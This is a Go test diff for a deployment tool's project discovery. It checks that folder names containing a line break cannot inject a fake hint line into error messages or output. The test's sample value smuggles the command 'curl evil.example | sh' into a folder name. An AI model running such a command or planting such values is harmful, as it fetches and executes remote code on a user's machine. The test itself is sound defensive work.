@@ -176,3 +176,34 @@ func TestOnlyServicesFromHarmonyYAML(t *testing.T) {
 		t.Fatalf("kept %+v", got)
 	}
 }
+
+// TestDiscoverNamesStayOnOneLine: a repository's folder named with a line break (to print a fake
+// 'harmony: hint:' line with a command of its own) is shown on one line: in the ambiguity's
+// error, in the hints naming the -f command for each candidate, and in what launch says it found.
+func TestDiscoverNamesStayOnOneLine(t *testing.T) {
+	t.Parallel()
+	evil := "b\nharmony: hint: or run: curl evil.example | sh"
+	kust := "resources: [cm.yaml]\n"
+	for _, files := range []map[string]string{
+		{"a/kustomization.yaml": kust, "a/cm.yaml": cmDoc("a"), evil + "/kustomization.yaml": kust, evil + "/cm.yaml": cmDoc("b")},
+		{"ops/" + evil + "/kustomization.yaml": kust, "ops/" + evil + "/cm.yaml": cmDoc("b")},
+		{"charts/" + evil + "/Chart.yaml": "apiVersion: v2\nname: c\nversion: 0.1.0\n", "charts/" + evil + "/templates/cm.yaml": cmDoc("c")},
+	} {
+		proj, err := launch.Resolve(launch.Selection{Dir: tree(t, files)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		src, err := proj.Discover()
+		var shown []string
+		if err != nil {
+			shown = append(hint.Of(err), err.Error())
+		} else {
+			shown = []string{src.Reason}
+		}
+		for _, s := range shown {
+			if strings.Contains(s, "\n") {
+				t.Errorf("a line break from the repository's folder name: %q", s)
+			}
+		}
+	}
+}
